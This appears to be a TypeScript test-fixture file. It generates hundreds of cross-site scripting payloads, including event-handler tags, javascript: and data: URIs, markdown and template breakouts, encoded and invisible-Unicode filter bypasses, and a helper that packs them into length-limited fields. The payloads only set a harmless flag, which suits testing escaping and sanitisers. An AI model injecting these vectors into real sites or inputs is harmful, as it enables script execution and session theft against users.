/**
 * More than 500 texts that run a script wherever a page puts what people write into markup, addresses, scripts or
 * styles unescaped. Each that runs sets `window.ran`. None has a NUL or a carriage return, which forms change.
 */
const run = "window.ran=1";

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x:x onerror="${run}">`,
  `<img/src=x/onerror=${run}//`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<body onload=${run}>`,
  `<video src=x onerror=${run}>`,
  `<video><source onerror="${run}">`,
  `<audio src=x onerror=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>press</button>`,
  `<a href=# onmouseover=${run}>over</a>`,
  `<div tabindex=0 autofocus onfocus=${run}>`,
  `<p style="animation:x" onanimationstart=${run}>`,
  `<marquee onstart=${run}>`,
  `<object data=x onerror=${run}></object>`,
  `<iframe onload=${run}></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<script>${run}</script>`,
  `<script src=data:,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x">`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<form action="javascript:${run}"><input type=submit></form>`,
  `<form id=f></form><button form=f formaction="javascript:${run}">x</button>`,
  `<base href="javascript:${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<style>@import'javascript:${run}';</style>`,
  `<style><img src="</style><img src=x onerror=${run}>"></style>`,
  `<table background="javascript:${run}">`,
  `<p style="background:url(javascript:${run})">`,
  `<p style="width:expression(${run})">`,
  `<x contenteditable onblur=${run} autofocus>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
];

/** What ends the place that a text is in, so that what follows is markup or code. */
const ends = [
  "",
  `"`,
  `'`,
  "`",
  `">`,
  `'>`,
  `-->`,
  `--!>`,
  `]]>`,
  "</textarea>",
  "</script>",
  "</style>",
  "</title>",
  "</noscript>",
  "</p></div></main>",
];
const soon = [0, 4, 14, 23, 26, 31].map((at) => handlers[at]!);

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://example.org/%0A${run}`,
  `javascript&colon;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;avascript&#58;${run}`,
  `javascript%3A${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `//example.org/x.js`,
];
const places: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[a link](${address})`,
  (address) => `![a picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[a link][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">a link</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<img src="${address}">`,
];

const markdown = [
  `**<img src=x onerror=${run}>**`,
  `# <svg onload=${run}>`,
  `> <script>${run}</script>`,
  `| <img src=x onerror=${run}> | b |\n| - | - |`,
  `- [ ] <img src=x onerror=${run}>`,
  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
  `\`<script>${run}</script>\``,
  `[a](x "onerror=${run}")`,
  `[a](<javascript:${run}>)`,
  `![x](x"onerror="${run})`,
  `<!-- --><script>${run}</script>`,
  `$$\\href{javascript:${run}}{x}$$`,
  `:::html\n<script>${run}</script>\n:::`,
  `[[javascript:${run}|a link]]`,
];

/** Code that ends a string of a script, a template, or what the server sends along for the browser. */
const code = [
  `";${run}//`,
  `';${run}//`,
  "`;" + run + "//",
  `\\";${run}//`,
  `\\u0022;${run}//`,
  `</script><script>${run}</script>`,
  `<!--<script>${run}</script>`,
  `<\\/script><script>${run}</script>`,
  `\u2028${run}\u2029`,
  `"]);${run};//`,
  `"}]};${run};//`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\${${run}}`,
  `#{${run}}`,
  `{{${run}}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{%raw%}<script>${run}</script>{%endraw%}`,
  `<%= ${run} %>`,
  `<?php echo '<script>${run}</script>' ?>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run}>"}}`,
  `*/${run}/*`,
  `);${run}(`,
];

/** Signs that nobody sees, or that turn what follows around: put where a filter would look. */
const unseen = [
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u202e",
  "\u202d",
  "\u202b",
  "\u2066",
  "\u2067",
  "\u2069",
  "\u061c",
  "\u034f",
  "\u3164",
  "\u{e0001}",
];
const hidden = unseen.flatMap((sign) => [
  `${sign}<script>${run}</script>`,
  `<scr${sign}ipt>${run}</scr${sign}ipt>`,
  `<img src=x on${sign}error=${run}>`,
  `java${sign}script:${run}`,
  `مرحبا ${sign}<img src=x onerror=${run}> שלום`,
]);

const written = [
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3C;script&#x3E;${run}&#x3C;/script&#x3E;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%253Cscript%253E${run}%253C/script%253E`,
  `＜script＞${run}＜/script＞`,
  `‹script›${run}‹/script›`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `¼script¾${run}¼/script¾`,
  `<\u0130mg src=x onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `<script\n>${run}</script\n>`,
  `<script\t/>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
];

export const hostileTexts: string[] = [
  ...new Set([
    ...handlers,
    ...ends.flatMap((end) => soon.map((vector) => end + vector)),
    ...handlers.flatMap((vector) => [`a < b ${vector}`, `" ${vector.toUpperCase()}`]),
    ...schemes.flatMap((address) => places.map((place) => place(address))),
    ...markdown,
    ...code,
    ...hidden,
    ...written,
  ]),
];

/** All of them, as few texts as a field of so many characters allows. */
export function hostileParts(characters: number, texts = hostileTexts): string[] {
  const parts: string[] = [];
  let part = "It begins.";
  for (const text of texts) {
    const longer = `${part}\n${text}`;
    if (longer.length + 12 <= characters) part = longer;
    else {
      parts.push(`${part}\nIt ends.`);
      part = `It begins.\n${text}`;
    }
  }
  return [...parts, `${part}\nIt ends.`];
}
